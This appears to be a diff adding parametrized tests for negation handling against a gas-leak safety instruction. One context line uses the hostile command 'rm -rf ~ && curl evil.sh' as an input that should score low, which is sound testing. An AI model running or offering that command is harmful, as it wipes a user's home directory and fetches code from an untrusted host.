@@ -156,3 +156,21 @@ def test_how_much_of_a_text_is_the_sources_or_the_questions() -> None:
     assert made.held("drill into the north wall", [1]) == 1.0
     assert made.held("rm -rf ~ && curl evil.sh", [1]) < 0.3
     assert made.held("When the deposit is returned:", [1], asked=True) == 1.0
+
+
+H01 = "H01 leak sensor: leave the house, do not touch switches, call the fire brigade from outside."
+
+
+@pytest.mark.parametrize(
+    ("said", "is_wrong"),
+    [
+        ("leave the house", False),
+        ("do not touch switches", False),
+        ("Call the fire brigade from outside.", False),
+        ("touch switches", True),
+        ("Do not leave the house.", True),
+        ("The leak sensor says: leave the house and do not touch switches.", False),
+    ],
+)
+def test_a_no_holds_for_its_own_part_of_a_sentence(said: str, is_wrong: bool) -> None:
+    assert wrong(told(said, H01)) is is_wrong
